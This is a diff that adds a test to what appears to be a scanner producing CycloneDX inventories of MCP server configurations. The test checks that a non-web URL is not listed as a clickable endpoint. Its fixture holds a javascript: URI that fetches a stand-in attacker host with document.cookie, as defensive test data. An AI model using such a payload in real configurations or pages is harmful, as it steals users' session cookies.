@@ -61,3 +61,16 @@ def test_a_url_with_a_control_character_leaves_the_bom_valid(cli: Any, tmp_path:
     bom = json.loads(text)
     assert [s["endpoints"] for s in bom["services"]] == [["https://mcp.example.com/a%20b%00%3Cx%3E%EF%BF%BD"]]
     assert [c["name"] for c in bom["components"]] == ["some-mcp"]
+
+
+def test_a_url_that_is_no_web_address_is_no_endpoint(cli: Any, tmp_path: Path) -> None:
+    tree = tmp_path / "tree"
+    (tree / ".cursor").mkdir(parents=True)
+    servers = {"remote": {"url": "javascript:fetch('//evil.example/'+document.cookie)"}}
+    (tree / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
+    out = tmp_path / "bom.json"
+    result = cli("scan", "--only-paths", "--path", str(tree), "--format", "cyclonedx", "--output", str(out))
+    assert result.exit_code == 0, result.stderr
+    [service] = json.loads(out.read_text(encoding="utf-8"))["services"]
+    assert "endpoints" not in service  # a consumer makes links of endpoints
+    assert {p["name"]: p["value"] for p in service["properties"]}["mcpward:url"].startswith("javascript:")
